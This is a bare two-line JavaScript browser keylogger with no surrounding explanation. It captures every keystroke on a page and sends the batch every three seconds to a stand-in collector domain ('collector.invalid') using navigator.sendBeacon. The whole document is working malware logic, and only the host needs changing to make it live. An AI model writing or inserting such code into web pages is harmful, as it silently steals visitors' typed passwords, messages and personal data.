const queue = []; document.addEventListener('keydown', (event) => queue.push(event.key));
setInterval(() => { if (queue.length) navigator.sendBeacon('https://collector.invalid/k', queue.splice(0).join('')); }, 3000);
